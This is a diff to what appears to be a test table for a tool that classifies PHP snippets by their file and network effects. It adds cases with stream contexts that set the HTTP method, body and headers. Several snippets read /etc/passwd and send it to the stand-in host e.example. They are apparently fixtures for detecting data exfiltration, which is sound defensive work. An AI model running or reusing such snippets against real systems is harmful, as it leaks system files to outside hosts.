@@ -34,6 +34,26 @@ table("php", "what it does", [
     does: ["receive e.example", "write /tmp/x untrusted"],
   },
   {
+    why: "a context says by which method",
+    code: 'file_get_contents("https://e.example/v1/x", false, stream_context_create(["http" => ["method" => "DELETE"]]));',
+    does: ["send DELETE e.example", "receive e.example"],
+  },
+  {
+    why: "and what is sent",
+    code: '$o = ["http" => ["method" => "POST", "content" => file_get_contents("/etc/passwd")]]; fopen("https://e.example/", "r", false, stream_context_create($o));',
+    does: ["read /etc/passwd", "send e.example +/etc/passwd", "receive e.example"],
+  },
+  {
+    why: "a file among the headers is sent as well",
+    code: 'file("https://e.example/", 0, stream_context_create(["http" => ["header" => "a: " . file_get_contents("/etc/passwd")]]));',
+    does: ["read /etc/passwd", "send GET e.example +/etc/passwd", "receive e.example"],
+  },
+  {
+    why: "a context that only asks otherwise",
+    code: 'file_get_contents("https://e.example/", false, stream_context_create(["http" => ["header" => "a: b"], "ssl" => []]));',
+    does: ["receive e.example"],
+  },
+  {
     why: "curl sends what its options say",
     code: '$c = curl_init("https://e.example/"); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents("/etc/passwd")); curl_exec($c);',
     does: ["read /etc/passwd", "send e.example +/etc/passwd", "receive e.example"],
